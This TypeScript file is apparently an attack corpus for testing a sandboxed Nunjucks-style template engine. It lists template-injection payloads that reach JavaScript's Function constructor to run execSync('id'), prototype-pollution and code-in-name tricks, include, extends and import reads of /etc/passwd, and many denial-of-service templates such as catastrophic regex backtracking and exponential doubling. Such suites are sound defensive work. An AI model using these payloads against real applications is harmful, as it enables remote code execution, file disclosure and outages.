/** Templates of Nunjucks that mean harm: what the package itself falls to, and what was aimed at this engine. */
import type { Attack } from "./attacks.ts"

const code = "return process.mainModule.require('child_process').execSync('id')"

/** Names behind which JavaScript keeps what is not data. */
const hidden = [
  "constructor",
  "__proto__",
  "prototype",
  "valueOf",
  "call",
  "apply",
  "bind",
  "__defineGetter__",
  "__lookupGetter__",
  "isPrototypeOf",
  "propertyIsEnumerable"
]

/** Everything that a template can name. */
const subjects = [
  "''",
  "(1)",
  "true",
  "[]",
  "{}",
  "r/x/",
  "range",
  "cycler",
  "joiner",
  "cycler(1)",
  "cycler(1).next",
  "joiner()",
  "xs",
  "xs.push",
  "d",
  "name",
  "'x'.split",
  "('x' | safe)",
  "(1).toFixed",
  "r/x/.test",
  "d.hasOwnProperty",
  "d.toString",
  "m",
  "m()",
  "loop",
  "caller",
  "rackUnits"
]

const inAll = (template: string): string =>
  `{% macro m() %}{% if caller %}${template}{% endif %}{% endmacro %}{% for x in [1] %}{% call m() %}{% endcall %}${template}{% endfor %}`

const reads: ReadonlyArray<Attack> = subjects.flatMap((subject) =>
  hidden.map((name): Attack => {
    const half = name.length >> 1
    const computed = `${subject}["${name.slice(0, half)}" + "${name.slice(half)}"]`
    return [
      `${subject}.${name}`,
      inAll(`{{ ${subject}.${name} }}{{ ${computed} }}{{ ${subject}[["${name}"]] }}{{ ${computed}[["${name}"]] }}`)
    ]
  })
)

const calls: ReadonlyArray<Attack> = [
  ["range's constructor", `{{ range.constructor("return process")() }}`],
  ["text's constructor", `{{ ''.constructor.constructor("${code}")() }}`],
  ["number's constructor", `{{ (1).constructor.constructor("${code}")() }}`],
  ["method's constructor", `{{ 'x'.split.constructor("${code}")() }}`],
  ["cycler's constructor", `{{ cycler().constructor.constructor("${code}")() }}{{ cycler.constructor("${code}")() }}`],
  ["cycler's next", `{{ cycler(1).next.constructor("${code}")() }}`],
  ["joiner's constructor", `{{ joiner.constructor("${code}")() }}{{ joiner().constructor("${code}")() }}`],
  ["macro's constructor", `{% macro m() %}{% endmacro %}{{ m.constructor("${code}")() }}`],
  [
    "caller's constructor",
    `{% macro m() %}{{ caller.constructor("${code}")() }}{% endmacro %}{% call m() %}{% endcall %}`
  ],
  ["loop's constructor", `{% for x in [1] %}{{ loop.constructor.constructor("${code}")() }}{% endfor %}`],
  ["pattern's constructor", `{{ r/x/.constructor.constructor("${code}")() }}`],
  ["toString's constructor", `{{ xs.toString.constructor("${code}")() }}{{ toString.constructor("${code}")() }}`],
  ["filter that is inherited", `{{ 1 | constructor }}`],
  ["filter of the prototype", `{{ 1 | valueOf }}`],
  ["test that is inherited", `{{ 1 is constructor }}`],
  ["test by an inherited name", `{{ [1] | select("constructor") }}{{ [1] | reject("__proto__") }}`],
  ["context through valueOf", `{% set c = 1 | valueOf %}{{ c.env }}`],
  [
    "sort by a prototype",
    `{{ [name] | sort(attribute="constructor") }}{{ [name] | sort(false, false, "constructor.name") }}`
  ],
  ["group by a prototype", `{{ xs | groupby("constructor") | dump }}{{ xs | groupby("__proto__") | dump }}`],
  ["select by a prototype", `{{ xs | selectattr("constructor") | length }}{{ xs | rejectattr("__proto__") }}`],
  ["join and sum by a prototype", `{{ [d] | join(",", "constructor") }}{{ [d] | sum("constructor") }}`],
  ["first of a function", `{{ range | first }}{{ range | last }}{{ range | length }}`],
  [
    "function as a text",
    `{{ range }}{{ range ~ "" }}{{ [range] }}{{ [range] | join }}{{ range | dump }}{{ range | string }}`
  ],
  [
    "replacement by a function",
    `{{ "abc".replace("b", range) }}{{ "abc" | replace("b", range) }}{{ "abc".replace(r/b/, range) }}`
  ],
  ["sort by a function", `{{ xs.sort(range) }}`],
  ["map over a function", `{{ xs.map(range) }}`],
  [
    "process and friends",
    `{{ process }}{{ global }}{{ globalThis }}{{ require }}{{ module }}{{ env }}{{ context }}{{ frame }}{{ runtime }}{{ cb }}{{ lineno }}{{ output }}{{ t_1 }}{{ this }}{{ arguments }}{{ eval }}`
  ],
  ["prototype in a literal", `{% set q = {"__proto__": {"PWN": 1} } %}{{ q.PWN }}{{ {}.PWN }}`],
  ["prototype set", `{% set __proto__ = {"PWN": 1} %}{{ PWN }}{{ {}.PWN }}`],
  ["prototype set by a block", `{% set __proto__ %}PWN{% endset %}{{ PWN }}`],
  ["constructor set", `{% set constructor = 1 %}{% set toString = 2 %}{{ hasOwnProperty }}`],
  ["dotted name set", `{% set "__proto__.PWN" = 1 %}{{ {}.PWN }}`],
  ["dotted loop variable", `{% for "__proto__.PWN" in [1] %}{% endfor %}`],
  ["loop as a loop variable", `{% for loop in [__proto__, {}.constructor] %}{% endfor %}{{ {}.index0 }}`],
  [
    "prototype as a parameter",
    `{% macro m(__proto__, constructor={"PWN": 1}) %}{{ __proto__.PWN }}{% endmacro %}{{ m({"PWN": 1}) }}{{ {}.PWN }}`
  ],
  [
    "keywords made by hand",
    `{% macro m(a, b=1) %}{{ a }}{{ b }}{% endmacro %}{{ m({"__keywords": true, "__proto__": {"a": 7}, "constructor": 1}) }}`
  ],
  [
    "groups by a prototype's name",
    `{{ [{"a": "__proto__"}, {"a": "constructor"}] | groupby("a") | dump }}{{ {}.PWN }}`
  ],
  ["assignment by a filter", `{{ {}.constructor.assign({}.__proto__, {"PWN": 1}) }}`],
  ["code in a name", '{{ a"+globalThis.PWN=1+" }}{% set b`${globalThis.PWN=1}` = 1 %}'],
  ["code in a test", `{{ 1 is x")+(globalThis.PWN=1)+(" }}`],
  ["code in a filter", `{{ 1 | x")+(globalThis.PWN=1)+(" }}`],
  ["code in a call", `{{ x["\\",(globalThis.PWN=1),\\""]() }}`],
  ["code in a text", `{{ "\u2028\u2029*/globalThis.PWN=1//" }}`],
  ["code in a pattern", `{{ r/x/.test("x") }}{{ r/\\/;globalThis.PWN=1;\\//g }}`],
  ["files", `{% include "/etc/passwd" %}`],
  ["files by extends", `{% extends {"raw": "/etc/passwd"} %}`],
  ["files by import", `{% import "/etc/passwd" as x %}{{ x }}`],
  ["files by a condition", `{% if 1 %}{% from "../../package.json" import x %}{% endif %}`]
]

const big = (unit: string, size: number) => `{% set a = "${unit}".repeat(${size}) %}`
const doubled = (start: string, step: string, end: string) =>
  `{% set a = ${start} %}{% for i in range(60) %}{% set a = ${step} %}{% endfor %}${end}`

const work: ReadonlyArray<Attack> = [
  ["list that grows while it is walked", `{% set a = [1] %}{% for x in a %}{{ a.push(x) }}{% endfor %}`],
  ["range of halves", `{% for i in range(0, 1, 0.0000001) %}x{% endfor %}`],
  [
    "range that does not move",
    `{{ range(9007199254740992, 9007199254740999) }}{{ range(0, 5, nope) }}{{ range("a", "b") }}`
  ],
  ["doubled text", doubled('"xxxxxxxxxx"', "a + a", "{{ a.length }}")],
  ["doubled list", doubled("[1]", "a.concat(a)", "{{ a.length }}")],
  ["lists in lists", doubled("[1]", "[a, a]", "{{ a }}{{ a | dump }}{{ a == 1 }}{{ a.flat(99) }}")],
  ["objects in objects", doubled("{}", "{x: a, y: a}", "{{ a | dump(9) }}{{ a | upcase }}")],
  [
    "list in itself",
    `{% set a = [] %}{% if a.push(a) %}{% endif %}{{ a }}{{ a | dump }}{{ a.flat(1e9) }}{{ a | join }}{{ a | slugify }}`
  ],
  ["macro that calls itself", `{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}`],
  ["call block that calls itself", `{% macro m() %}{% call m() %}{{ caller() }}{% endcall %}{% endmacro %}{{ m() }}`],
  ["macro that fans out", `{% macro m(n) %}{% if n %}{{ m(n-1) }}{{ m(n-1) }}{% endif %}{% endmacro %}{{ m(60) }}`],
  ["repeat", `{{ "x".repeat(1000000000) }}`],
  ["padding", `{{ "x".padStart(1000000000) }}{{ "x" | center(1000000000) }}`],
  ["indentation", `{{ "x\\ny" | indent(1000000000) }}`],
  ["batch", `{{ [1] | batch(1000000000, "x") }}`],
  ["slice", `{{ [1] | slice(1000000000) }}`],
  ["replacing every place", `${big("x", 100000)}{{ a | replace("", a) }}`],
  ["replacing by the text", `${big("x", 100000)}{{ a.replaceAll("x", "$\`$'") }}`],
  ["replacing by a pattern", `${big("x", 100000)}{{ a.replace(r/x/g, a) }}`],
  ["pattern that backtracks", `${big("a", 50000)}{{ (a + "!").replace(r/(a+)+$/g, "x") }}{{ r/(a|a)*b/.test(a) }}`],
  ["pattern of a large program", `{{ r/((\\w{10}){10}){10}/.test("x") }}`],
  ["many patterns", Array.from({ length: 2000 }, (_, i) => `{{ r/.{99}x${i}/.test("x") }}`).join("")],
  ["pattern over long text", `${big("a", 1000000)}{% for i in range(99) %}{{ r/.*b.{50}c/.test(a) }}{% endfor %}`],
  ["pattern nested deeply", `{{ r/${"(".repeat(20000)}${")".repeat(20000)}/ }}`],
  ["split to characters", `${big("x", 1000000)}{% for i in range(99) %}{% set b = a.split("") %}{% endfor %}`],
  ["trim", `{% set b = " ".repeat(500000) %}{% for i in range(99) %}{{ ("x" + b + "x") | trim | length }}{% endfor %}`],
  ["striptags", `${big("<a", 50000)}{{ a | striptags }}${big("<!--", 30000)}{{ a | striptags(true) }}`],
  ["striptags of spaces", `${big(" ", 300000)}{{ ("x" + a + "x" + a + "x") | striptags(true) | length }}`],
  ["urlize", `${big("x.", 50000)}{{ a | urlize | length }}`],
  ["urlize of mail", `${big("a@", 50000)}{{ a | urlize | length }}{{ (a.replaceAll("@", "@a.")) | urlize | length }}`],
  [
    "sort of long texts",
    `${big("x", 10000)}{% set b = [] %}{% for i in range(200) %}{% if b.push(a + i) %}{% endif %}{% endfor %}{% for i in range(99) %}{% set c = b | sort %}{{ b.sort() | length }}{% endfor %}`
  ],
  [
    "comparison of long texts",
    `${big("x", 500000)}{% set b = a.slice(0, -1) + "x" %}{% for i in range(99999) %}{% if a == b %}{% endif %}{% endfor %}`
  ],
  [
    "search in long lists",
    `{% set b = range(50000) %}{% for i in range(99999) %}{% if b.indexOf(-1) %}{% endif %}{% if -1 in b %}{% endif %}{% endfor %}`
  ],
  ["path of many names", `${big("a.", 200000)}{{ [d] | groupby(a) }}`],
  [
    "filters of long texts",
    `${big("x ", 300000)}{% for i in range(999) %}{% set b = a | title %}{% set b = a | wordcount %}{% set b = a | urlencode %}{% set b = a | dump %}{% endfor %}`
  ],
  ["output", `{% for i in range(100000) %}${"x".repeat(60)}{% endfor %}`],
  ["global data of a plugin", `{% for i in range(99999) %}{{ "a,b" | split(",") | join }}{% endfor %}`]
]

export const nunjucksAttacks = { reads, calls, work } as const
